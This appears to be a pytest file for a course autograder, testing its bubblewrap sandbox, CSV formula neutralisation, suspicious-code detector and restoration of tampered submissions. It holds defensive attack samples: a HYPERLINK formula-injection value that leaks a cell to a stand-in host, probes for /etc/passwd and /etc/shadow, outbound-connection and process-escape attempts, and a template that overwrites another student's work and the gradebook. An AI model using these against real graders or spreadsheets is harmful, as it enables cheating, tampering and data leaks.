"""The grader's protections: the bubblewrap sandbox, the worker's result channel, the gradebook.

The sandbox tests need bubblewrap (``bwrap``) and are skipped where it is missing, except under
CI, where ``.ci/run`` installs it and a missing sandbox is a failure. The end-to-end attacks are in
``tests/test_grade.py`` (graded in the sandbox where there is one); here an unsandboxed run shows
what remains without it: changed submissions are put back, the old gradebook is kept intact.
"""

from __future__ import annotations

import csv
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from course_lib.instructor import exercises, grade, sandbox

BWRAP, WHY = sandbox.find_bwrap()
needs_sandbox = pytest.mark.skipif(BWRAP is None, reason=f"no sandbox here: {WHY}")


def test_ci_has_the_sandbox() -> None:
    if os.environ.get("CI") != "true":
        pytest.skip("only CI must have bubblewrap (.ci/run installs it)")
    assert BWRAP is not None, WHY


# ------------------------------------------------------------------------------ units


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("alice", "alice"),
        ('=HYPERLINK("http://x/?"&A3,"x")', '\'=HYPERLINK("http://x/?"&A3,"x")'),
        ("+1", "'+1"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_text_neutralises_formulas(text: str, expected: str) -> None:
    assert grade.csv_text(text) == expected


@pytest.mark.parametrize(
    ("source", "found"),
    [
        ("import os\nos.kill(1, 9)", "import os"),
        ("from subprocess import run", "import subprocess"),
        ("import socket", "import socket"),
        ("x = open('/etc/passwd').read()", "open()"),
        ("exec('1')", "exec()"),
        ("import course_lib\np = course_lib.__file__", ".__file__"),
        ("f = lambda: 0\nf.__globals__", ".__globals__"),
        ("!ls", "a shell command or magic (! or %)"),
        ("checks = None", "rebinds `checks`"),
        ("def checks():\n    pass", "rebinds `checks`"),
        ("class jnp:\n    pass", "rebinds `jnp`"),
    ],
)
def test_suspicious_names_what_an_attack_uses(source: str, found: str) -> None:
    assert found in grade.suspicious(source, protected=("checks", "jnp"))


def test_honest_code_is_not_suspicious() -> None:
    honest = (
        "import jax.numpy as jnp\nimport math\nfrom functools import partial\n\n\n"
        "def perceptron_epoch(w, X, y, lr=1.0):\n"
        "    for x, t in zip(X, y):\n"
        "        if t * jnp.dot(w, x) <= 0:\n"
        "            w = w + lr * t * x\n"
        "    return w\n"
    )
    assert grade.suspicious(honest, protected=("checks", "jnp", "np")) == []


def test_test_cells_import_the_assignments_modules_again() -> None:
    nb = nbformat.v4.new_notebook(
        cells=[
            nbformat.v4.new_code_cell("import jax.numpy as jnp\nfrom course_lib import checks"),
            nbformat.v4.new_code_cell("%matplotlib inline\nimport numpy as np"),
            nbformat.v4.new_code_cell("### BEGIN SOLUTION\nimport os\n### END SOLUTION"),
        ]
    )
    nb, _ = exercises.annotate(nb)
    imports = grade._imports(nb)
    assert imports.splitlines() == [
        "import jax.numpy as jnp",
        "from course_lib import checks",
        "import numpy as np",
    ]  # the solution cell's own import is not the assignment's
    assert grade._bound_names(imports) == ["jnp", "checks", "np"]


def test_sandbox_command_binds_only_what_the_kernel_needs(tmp_path: Path) -> None:
    box = sandbox.Sandbox("/usr/bin/bwrap", tmp_path / "home", shared=(tmp_path / "sockets",))
    argv = box.command(["python", "-c", "pass"], {"HOME": str(tmp_path / "home")})
    text = " ".join(argv)
    for flag in ("--unshare-all", "--die-with-parent", "--new-session", "--clearenv"):
        assert flag in argv, flag
    assert "--bind / /" not in text and "--ro-bind / /" not in text
    assert f"--tmpfs {tmp_path / 'home'}" in text  # in memory, bounded: not the disk
    assert f"--bind {tmp_path / 'sockets'} {tmp_path / 'sockets'}" in text
    course_lib_dir = Path(grade.__file__).resolve().parents[1]
    assert f"--ro-bind {course_lib_dir} {course_lib_dir}" in text
    assert str(course_lib_dir.parent / "solutions") not in text
    assert argv[-4:] == ["--", "python", "-c", "pass"]


def test_kernel_env_keeps_no_secrets(tmp_path: Path) -> None:
    env = sandbox.kernel_env(
        {"PATH": "/usr/bin", "GITHUB_TOKEN": "s3cret", "JAX_ENABLE_X64": "0"}, tmp_path
    )
    assert "GITHUB_TOKEN" not in env and env["JAX_ENABLE_X64"] == "0"
    assert env["HOME"] == str(tmp_path)


# ------------------------------------------------------------------------------ the sandbox


def _inside(tmp_path: Path, code: str, **kw) -> subprocess.CompletedProcess:
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    box = sandbox.Sandbox(BWRAP, home, **kw)
    env = sandbox.kernel_env(os.environ, home)
    return subprocess.run(
        box.command([sys.executable, "-c", code], env),
        capture_output=True,
        text=True,
        timeout=120,
    )


@needs_sandbox
def test_the_sandbox_hides_the_machine(tmp_path: Path) -> None:
    secret = tmp_path / "other_submission.ipynb"
    secret.write_text("someone else's work")
    repo = Path(grade.__file__).resolve().parents[2]
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    port = server.getsockname()[1]
    accepted = []
    threading.Thread(target=lambda: accepted.append(server.accept()), daemon=True).start()
    code = f"""
import os, socket, json, pathlib
seen = {{p: os.path.exists(p) for p in [{str(secret)!r}, {str(repo / "solutions")!r},
                                         {str(repo / "README.md")!r}, "/etc/shadow"]}}
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2)
    net = "connected"
except OSError as error:
    net = type(error).__name__
try:
    pathlib.Path(__import__("course_lib").__file__).with_name("x.py").write_text("")
    lib = "written"
except OSError:
    lib = "read-only"
pathlib.Path("mine.txt").write_text("ok")
mine = pathlib.Path("mine.txt").read_text()
try:
    pathlib.Path("big").write_bytes(b"x" * ({sandbox.TMPFS_MB} + 16) * 2**20)
    big = "written"
except OSError:
    big = "full"
pids = [p for p in os.listdir("/proc") if p.isdigit()]
print(json.dumps({{"seen": seen, "net": net, "lib": lib, "pids": len(pids), "cwd": os.getcwd(),
                  "mine": mine, "big": big}}))
"""
    done = _inside(tmp_path, code)
    server.close()
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout)
    assert not any(out["seen"].values()), out["seen"]
    assert out["net"] != "connected" and not accepted
    assert out["lib"] == "read-only"
    assert out["pids"] <= 3  # its own PID namespace: bwrap's init, python (and ps)
    assert out["cwd"] == str(tmp_path / "home") and out["mine"] == "ok"
    assert out["big"] == "full"  # the working folder is bounded
    assert not (tmp_path / "home" / "mine.txt").exists()  # and nothing reaches the disk


@needs_sandbox
def test_every_process_dies_with_the_sandbox(tmp_path: Path) -> None:
    mark = "4242.125"
    code = (
        "import subprocess\n"
        f"subprocess.Popen(['setsid', 'sleep', '{mark}'])\n"
        f"subprocess.Popen('nohup sleep {mark} >/dev/null 2>&1 &', shell=True)\n"
        "import time; time.sleep(0.5)\n"
    )
    done = _inside(tmp_path, code)
    assert done.returncode == 0, done.stderr
    time.sleep(0.5)
    left = [
        p.name
        for p in Path("/proc").glob("[0-9]*")
        if mark in (p / "cmdline").read_bytes().decode("utf-8", "replace")
        if (p / "cmdline").exists()
    ]
    assert left == []


# ------------------------------------------------------------------------------ unsandboxed


ATTACK = """def add(a, b):
    raise NotImplementedError


for _p in [{victim!r}, {book!r}]:
    try:
        open(_p, 'w').write('OVERWRITTEN')
    except OSError:
        pass
"""


def test_without_the_sandbox_changed_files_are_restored(tmp_path: Path, capsys) -> None:
    sys.path.insert(0, str(Path(__file__).parent))
    from test_grade import NAME, _edit, demo_solution

    course = tmp_path / "course"
    (course / "solutions").mkdir(parents=True)
    solution = demo_solution()
    nbformat.write(solution, course / "solutions" / f"{NAME}.ipynb")
    subs = tmp_path / "subs"
    subs.mkdir()
    victim = subs / f"victim_{NAME}.ipynb"
    nbformat.write(solution, victim)
    out = tmp_path / "grades.csv"
    out.write_text("last week's grades\n")
    attack = _edit(solution, "add", ATTACK.format(victim=str(victim), book=str(out)))
    nbformat.write(attack, subs / f"quinn_{NAME}.ipynb")
    before = victim.read_bytes()
    status = grade.main(
        [str(subs), "--root", str(course), "--out", str(out), "--no-sandbox", "--jobs", "1"]
    )
    assert status == 0
    assert "WITHOUT a sandbox" in capsys.readouterr().err
    assert victim.read_bytes() == before  # put back
    rows = {r["student"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert rows["victim"]["total"] == "5"  # graded from what was read before any kernel ran
    assert "restored" in rows["victim"]["flags"]
    assert "open()" in rows["quinn"]["flags"]
    backups = list(tmp_path.glob("grades.csv.bak-*"))
    assert [b.read_text() for b in backups] == ["last week's grades\n"]


def test_require_sandbox_refuses_without_one(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.setattr(sandbox, "find_bwrap", lambda: (None, "not here"))
    sub = tmp_path / "a_ch01_perceptron.ipynb"
    sub.write_text("{}")
    root = Path(grade.__file__).resolve().parents[2]
    status = grade.main(
        [str(sub), "--root", str(root), "--assignment", "ch01_perceptron", "--require-sandbox",
         "--out", str(tmp_path / "g.csv")]
    )  # fmt: skip
    assert status == 2
    assert "--require-sandbox" in capsys.readouterr().err
    assert not (tmp_path / "g.csv").exists()


def _with_env(mark: str) -> list[int]:
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            if mark.encode() in (entry / "environ").read_bytes():
                found.append(int(entry.name))
        except OSError:
            pass
    return found


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux's PR_SET_PDEATHSIG")
def test_an_interrupted_run_leaves_no_worker_behind(tmp_path: Path) -> None:
    sys.path.insert(0, str(Path(__file__).parent))
    from test_grade import NAME, _edit, demo_solution

    course = tmp_path / "course"
    (course / "solutions").mkdir(parents=True)
    solution = demo_solution()
    nbformat.write(solution, course / "solutions" / f"{NAME}.ipynb")
    subs = tmp_path / "subs"
    subs.mkdir()
    looping = "def add(a, b):\n    while True:\n        pass\n"
    nbformat.write(_edit(solution, "add", looping), subs / f"ann_{NAME}.ipynb")
    mark = f"COURSE_GRADE_TEST_{os.getpid()}_{time.monotonic_ns()}"
    # the killed grader cannot remove its temporary folders: they go into this test's folder
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    grader = subprocess.Popen(
        [sys.executable, "-m", "course_lib.instructor.grade", str(subs), "--root", str(course),
         "--out", str(tmp_path / "g.csv"), "--cell-timeout", "300", "--no-sandbox"],
        env={**os.environ, mark: "1", "TMPDIR": str(scratch)},
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 240
        while len(_with_env(mark)) < 3 and time.monotonic() < deadline:  # grader, worker, kernel
            time.sleep(0.5)
        assert len(_with_env(mark)) >= 3, "the grader never started a worker and a kernel"
        grader.kill()
        grader.wait()
        deadline = time.monotonic() + 30
        while _with_env(mark) and time.monotonic() < deadline:
            time.sleep(0.5)
        left = _with_env(mark)
    finally:
        for pid in _with_env(mark):
            os.kill(pid, 9)
    assert left == [], "a worker or kernel outlived the grader"
